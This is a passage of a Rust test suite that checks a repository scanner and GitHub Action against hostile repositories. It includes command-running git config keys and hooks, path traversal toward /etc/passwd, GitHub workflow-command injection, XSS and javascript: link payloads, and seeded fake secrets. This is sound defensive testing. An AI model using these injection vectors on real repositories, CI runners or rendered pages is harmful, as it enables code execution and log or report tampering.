        skipped: [
            "README.md",
            ".github/workflows/ci.yml",
            "Dockerfile",
            "package.json",
            "src/app.py",
            ".github/workflows/utf16.yml",
        ]
        .iter()
        .map(|p| (p.to_string(), "binary".to_string()))
        .collect(),
        ..Expect::default()
    };
    scan_checked("binary blobs", root, &[], &e);
}

#[test]
fn unreadable_files_and_folders_are_listed_as_skipped() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(root, "README.md", "# x\n");
    write(root, "locked.yml", "a: 1\n");
    write(root, "locked-dir/inner.yml", "a: 1\n");
    write(root, ".github/workflows/locked.yml", "on: push\n");
    let set = |p: &str, mode: u32| {
        fs::set_permissions(root.join(p), fs::Permissions::from_mode(mode)).unwrap()
    };
    set("locked.yml", 0o000);
    set(".github/workflows/locked.yml", 0o000);
    set("locked-dir", 0o000);
    let unreadable = Expect {
        skipped: vec![
            ("locked.yml".into(), "unreadable".into()),
            (".github/workflows/locked.yml".into(), "unreadable".into()),
            ("locked-dir".into(), "unreadable".into()),
        ],
        ..Expect::default()
    };
    let root_user = sys::is_root() || fs::read(root.join("locked.yml")).is_ok();
    // Root reads everything: drop to `nobody` with setpriv when it exists, so the permission
    // path is tested on CI too (which runs as root).
    let setpriv = [
        "setpriv",
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
        "--",
    ];
    let can_drop = root_user
        && Command::new(setpriv[0])
            .args(&setpriv[1..])
            .arg("true")
            .status()
            .map(|s| s.success())
            .unwrap_or(false);
    let (o, e) = if !root_user {
        (scan_all("unreadable files", root, &[]), unreadable)
    } else if can_drop {
        set(".", 0o755);
        let o = scan_wrapped("unreadable files, as nobody", root, "text", &[], &setpriv);
        (o, unreadable)
    } else {
        eprintln!(
            "[hostile] running as root without setpriv: file permissions do not bite, so \
             unreadable files are read; only crash-freedom is checked here"
        );
        (scan_all("unreadable files", root, &[]), Expect::default())
    };
    set("locked-dir", 0o755);
    set("locked.yml", 0o644);
    set(".github/workflows/locked.yml", 0o644);
    check(&o, &e);
}

#[test]
fn special_files_are_skipped_not_read() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(root, "README.md", "# x\n");
    for fifo in [
        "pipe.yml",
        "Dockerfile",
        ".github/workflows/pipe.yml",
        ".devops-maturity.yml",
    ] {
        let p = root.join(fifo);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        let ok = Command::new("mkfifo")
            .arg(&p)
            .status()
            .map(|s| s.success())
            .unwrap_or(false);
        if !ok {
            eprintln!("mkfifo unavailable: skipped");
            return;
        }
    }
    symlink("pipe.yml", root.join("link-to-pipe.yml")).unwrap();
    let e = Expect {
        skipped: vec![
            ("pipe.yml".into(), "not a regular file".into()),
            ("Dockerfile".into(), "not a regular file".into()),
            ("link-to-pipe.yml".into(), "special".into()),
        ],
        ..Expect::default()
    };
    scan_checked("FIFOs", root, &[], &e);
}

/// The walker reads ignore files itself: a committed `.gitignore -> /dev/zero` grew memory by
/// about 1.5 GB/s until the runner died, a FIFO one blocked forever.
#[test]
fn ignore_files_that_never_end_are_not_read() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(root, "README.md", "# x\n");
    write(root, "sub/a.md", "x\n");
    write(root, "fifo-dir/b.md", "x\n");
    write(root, "ok/.gitignore-source", "*.log\n");
    write(root, "ok/c.log", "x\n");
    write(root, "ok/d.md", "x\n");
    symlink("/dev/zero", root.join("sub/.gitignore")).unwrap();
    symlink("/dev/urandom", root.join("sub/.ignore")).unwrap();
    // A symlink to a regular file inside the root is a legitimate shared ignore file.
    symlink(".gitignore-source", root.join("ok/.gitignore")).unwrap();
    let fifo = Command::new("mkfifo")
        .arg(root.join("fifo-dir/.gitignore"))
        .status()
        .map(|s| s.success())
        .unwrap_or(false);
    let mut skipped = vec![("sub".to_string(), "folder not scanned".to_string())];
    if fifo {
        skipped.push(("fifo-dir".into(), "not a regular file".into()));
    }
    let e = Expect {
        skipped,
        ..Expect::default()
    };
    let o = scan_checked("ignore files in subfolders", root, &[], &e);
    let j = o.json_value().unwrap();
    let files = j["stats"]["files"].as_u64().unwrap();
    assert_eq!(
        files, 4,
        "README.md, ok/.gitignore(-source) and ok/d.md; not ok/c.log"
    );

    // At the root: ignore files are then not applied at all, and the scan completes.
    symlink("/dev/zero", root.join(".gitignore")).unwrap();
    let e = Expect {
        skipped: vec![(".".into(), "ignore files not applied".into())],
        ..Expect::default()
    };
    scan_checked("root .gitignore -> /dev/zero", root, &[], &e);
    fs::remove_file(root.join(".gitignore")).unwrap();
    if fifo {
        Command::new("mkfifo")
            .arg(root.join(".ignore"))
            .status()
            .unwrap();
        scan_checked("root .ignore is a FIFO", root, &[], &e);
    }
}

#[test]
fn roots_that_cannot_be_scanned_exit_3() {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "file.txt", "x");
    symlink("loop", dir.path().join("loop")).unwrap();
    for (case, path) in [
        ("missing root", dir.path().join("missing")),
        ("root is a file", dir.path().join("file.txt")),
        ("root is a symlink loop", dir.path().join("loop")),
    ] {
        let o = scan_all(case, &path, &[]);
        check(
            &o,
            &Expect {
                codes: &[3],
                ..Expect::default()
            },
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Cases: git directories

fn git_available() -> bool {
    Command::new("git")
        .arg("--version")
        .output()
        .map(|o| o.status.success())
        .unwrap_or(false)
}

fn git(dir: &Path, args: &[&str]) {
    let out = Command::new("git")
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.com",
            "-c",
            "init.defaultBranch=main",
            "-c",
            "commit.gpgsign=false",
        ])
        .args(args)
        .output()
        .expect("git runs");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn repo_with_history(dir: &Path, commits: usize) {
    git(dir, &["init", "-q"]);
    write(dir, "README.md", "# x\n");
    for i in 0..commits {
        write(dir, "f.txt", format!("{i}\n"));
        git(dir, &["add", "."]);
        git(
            dir,
            &[
                "commit",
                "-q",
                "-m",
                &format!("::error::commit {i}\n\n##[error]body <img src=x onerror=alert(1)>"),
            ],
        );
        if i % 3 == 0 {
            git(dir, &["tag", &format!("v0.{i}.0")]);
        }
    }
}

#[test]
fn corrupt_and_shallow_git_directories_are_survived() {
    if !git_available() {
        eprintln!("git CLI not installed: skipped");
        return;
    }
    let base = tempfile::tempdir().unwrap();
    let origin = base.path().join("origin");
    fs::create_dir_all(&origin).unwrap();
    repo_with_history(&origin, 7);
    scan_checked(
        "git history with hostile messages",
        &origin,
        &[],
        &Expect::default(),
    );

    // Shallow clone.
    let shallow = base.path().join("shallow");
    let url = format!("file://{}", origin.display());
    let out = Command::new("git")
        .args(["clone", "-q", "--depth", "1", &url])
        .arg(&shallow)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let o = scan_checked("shallow clone", &shallow, &[], &Expect::default());
    let h = &o.json_value().unwrap()["history"];
    if h["available"] == true {
        assert_eq!(
            h["shallow"], true,
            "a shallow clone is reported as shallow: {h}"
        );
    }

    // Corrupt objects, refs and HEAD, one at a time and all together.
    let corrupt = base.path().join("corrupt");
    fs::create_dir_all(&corrupt).unwrap();
    repo_with_history(&corrupt, 4);
    let git_dir = corrupt.join(".git");
    let mut objects = Vec::new();
    for d in fs::read_dir(git_dir.join("objects")).unwrap().flatten() {
        if d.file_name().len() == 2 {
            for f in fs::read_dir(d.path()).unwrap().flatten() {
                objects.push(f.path());
            }
        }
    }
    objects.sort();
    for (i, obj) in objects.iter().enumerate() {
        use std::os::unix::fs::PermissionsExt;
        let _ = fs::set_permissions(obj, fs::Permissions::from_mode(0o644));
        let garbage: &[u8] = match i % 3 {
            0 => b"not zlib at all",
            1 => b"x\x9c\x01\x02garbage",
            _ => b"",
        };
        fs::write(obj, garbage).unwrap();
    }
    scan_checked("corrupt git objects", &corrupt, &[], &Expect::default());
    fs::write(
        git_dir.join("packed-refs"),
        "# pack-refs with: peeled\nzzzz refs/heads/x\n^^^^\n",
    )
    .unwrap();
    fs::write(git_dir.join("refs/heads/main"), "not-a-sha\n").unwrap();
    scan_checked("corrupt git refs", &corrupt, &[], &Expect::default());
    fs::write(
        git_dir.join("HEAD"),
        "ref: refs/heads/../../../../etc/passwd\n",
    )
    .unwrap();
    scan_checked("HEAD pointing outside", &corrupt, &[], &Expect::default());
    fs::write(git_dir.join("HEAD"), "\u{0}\u{1}").unwrap();
    fs::write(git_dir.join("shallow"), "garbage\n").unwrap();
    scan_checked(
        "garbage HEAD and shallow",
        &corrupt,
        &[],
        &Expect::default(),
    );

    // A configuration that would run commands if anything executed git hooks or fsmonitor.
    let pwned = base.path().join(format!("PWNED-{}", nonce()));
    let hook_repo = base.path().join("hooks");
    fs::create_dir_all(&hook_repo).unwrap();
    repo_with_history(&hook_repo, 2);
    let touch = format!("touch {}", pwned.display());
    let cfg = fs::read_to_string(hook_repo.join(".git/config")).unwrap();
    fs::write(
        hook_repo.join(".git/config"),
        format!("{cfg}[core]\n\tfsmonitor = \"{touch}\"\n\tsshCommand = \"{touch}\"\n\tpager = \"{touch}\"\n\thooksPath = hooks\n[diff \"x\"]\n\ttextconv = \"{touch}\"\n"),
    )
    .unwrap();
    write(
        &hook_repo,
        "hooks/post-checkout",
        format!("#!/bin/sh\n{touch}\n"),
    );
    scan_checked(
        "git config with command hooks",
        &hook_repo,
        &[],
        &Expect::default(),
    );
    assert!(
        !pwned.exists(),
        "the scan executed a command from .git/config"
    );
}

// ---------------------------------------------------------------------------------------------
// Action mode

/// The container action entry point, with GitHub's environment and files.
#[test]
fn action_mode_on_a_hostile_repository() {
    let base = tempfile::tempdir().unwrap();
    let root = base.path().join("workspace");
    fs::create_dir_all(&root).unwrap();
    for name in hostile_names() {
        write(&root, OsStr::from_bytes(&name), "x\n");
    }
    write(
        &root,
        ".github/workflows/ci.yml",
        format!("name: {PAYLOAD_YAML}\non: push\nenv: {{T: {GH_TOKEN}}}\njobs:\n  a:\n    name: {PAYLOAD_YAML}\n    runs-on: x\n    steps:\n      - name: {PAYLOAD_YAML}\n        run: echo {AWS_KEY}\n"),
    );
    write(
        &root,
        "src/config.py",
        format!("KEY = \"{AWS_KEY}\"\nTOKEN = \"{GH_TOKEN}\"\n"),
    );
    // A failing custom rule whose title is the payload: it becomes an annotation title.
    let p = PAYLOAD_YAML;
    write(
        &root,
        ".devops-maturity.yml",
        format!("custom-rules:\n  - id: hostile-title\n    title: {p}\n    category: ci\n    weight: 9\n    remediation: {p}\n    check:\n      file-exists: ['no/such/file']\n"),
    );
    let summary = base.path().join("summary.md");
    let output = base.path().join("output.txt");
    fs::write(&summary, "").unwrap();
    fs::write(&output, "").unwrap();
    // Report files live in the workspace (the action refuses paths outside it).
    let sarif = root.join("out/results.sarif");
    let json = root.join("out/report.json");
    let mut tokens = Vec::new();
    for attempt in 0..2 {
        let mut cmd = bin();
        cmd.arg("action")
            .current_dir(&root)
            .env("GITHUB_ACTIONS", "true")
            .env("CI", "true")
            .env("GITHUB_WORKSPACE", &root)
            .env("GITHUB_STEP_SUMMARY", &summary)
            .env("GITHUB_OUTPUT", &output)
            .env("GITHUB_REPOSITORY", "o/r")
            .env("GITHUB_SHA", "0123456789abcdef0123456789abcdef01234567")
            .env("GITHUB_SERVER_URL", "https://github.com")
            .env("INPUT_PATH", ".")
            .env("INPUT_MIN-SCORE", "0")
            .env("INPUT_SARIF-FILE", "out/results.sarif")
            .env("INPUT_JSON-FILE", "out/report.json")
            .env("INPUT_SUMMARY", "true")
            .env("INPUT_ANNOTATIONS", "true")
            .env("INPUT_PROFILE", "");
        let r = run(&cmd, TIME_BOUND);
        let o = Outputs {
            case: format!("action mode #{attempt}"),
            format: "text".into(),
            json: fs::read_to_string(&json).ok(),
            sarif: fs::read_to_string(&sarif).ok(),
            markdown: fs::read_to_string(&summary).ok(),
            run: r,
        };
        let e = Expect {
            forbidden: secrets(),
            own_commands: &[
                "error",
                "warning",
                "notice",
                "group",
                "endgroup",
                "stop-commands",
                "debug",
            ],
            // The custom title in SARIF help is the known bug of the ignored test above.
            skip_sarif_markdown: true,
            ..Expect::default()
        };
        check(&o, &e);
        // Step outputs: one `name=value` or heredoc block per output, nothing injected.
        let out = fs::read_to_string(&output).unwrap_or_default();
        for line in out.lines() {
            assert!(
                !line.contains("::") && !line.contains("PWNED"),
                "GITHUB_OUTPUT line carries repository text: {line:?}"
            );
        }
        let stdout = o.stdout();
        tokens.extend(
            stdout
                .lines()
                .filter_map(|l| l.trim_start().strip_prefix("::stop-commands::"))
                .map(str::to_string),
        );
    }
    if tokens.len() >= 2 {
        assert_ne!(
            tokens[0], tokens[1],
            "stop-commands tokens must be unpredictable"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// The checkers check themselves: a broken checker would pass every case above.

#[test]
fn checkers_catch_what_they_claim() {
    assert_eq!(workflow_command_violations("  ::error::x\n", &[]).len(), 1);
    assert_eq!(
        workflow_command_violations("a\r::add-mask::x", &[]).len(),
        1
    );
    assert_eq!(workflow_command_violations("text ##[error]x", &[]).len(), 1);
    assert!(workflow_command_violations("a :: b\n\\::error::x\n", &[]).is_empty());
    let own = &["stop-commands", "error"];
    let guarded = "::stop-commands::0123456789abcdef01\n::error::inside\n##[error]x\n::0123456789abcdef01::\n::error file=a%2Cb,line=2::ok\n";
    assert!(workflow_command_violations(guarded, own).is_empty());
    assert!(workflow_command_violations("::error title=##[x]::##[y]\n", own).is_empty());
    assert!(!workflow_command_violations("::warning::##[y]\n", own).is_empty());
    assert_eq!(
        workflow_command_violations("::error file=a,line=1,file=b::x\n", own).len(),
        1
    );
    assert_eq!(
        workflow_command_violations("::stop-commands::abc\n", own).len(),
        1
    );

    assert!(markdown_violations("ok `<img src=x>` and\n```\n<script>\n```\n").is_empty());
    assert_eq!(markdown_violations("a <img src=x onerror=y> b").len(), 2);
    assert_eq!(markdown_violations("[x](javascript:alert(1))").len(), 1);
    assert!(markdown_violations("\\[x\\]\\(javascript\\:alert\\(1\\)\\)").is_empty());
    assert_eq!(
        markdown_violations("| a | b |\n|---|---|\n| x | y | z |\n").len(),
        1
    );
    assert!(markdown_violations("| a | b |\n|---|---|\n| x &#124; | `y\\|` |\n").is_empty());
    assert_eq!(markdown_violations("x\n# PWNED-HEADING\n").len(), 1);
    assert_eq!(markdown_violations("a\u{202e}b").len(), 1);
    assert!(contains_bytes(b"xxAKIAyy", b"AKIA"));
    assert_eq!(table_cells("| a | b |"), 2);
    assert_eq!(table_cells("a | b"), 2);
    assert_eq!(table_cells("| a \\| b |"), 1);
    // The SARIF schema ships with the tests, so validation really happens.
    common::sarif_validator();
    assert!(
        !common::sarif_schema_errors(&serde_json::json!({"version": "2.1.0", "runs": 5}))
            .is_empty()
    );
}
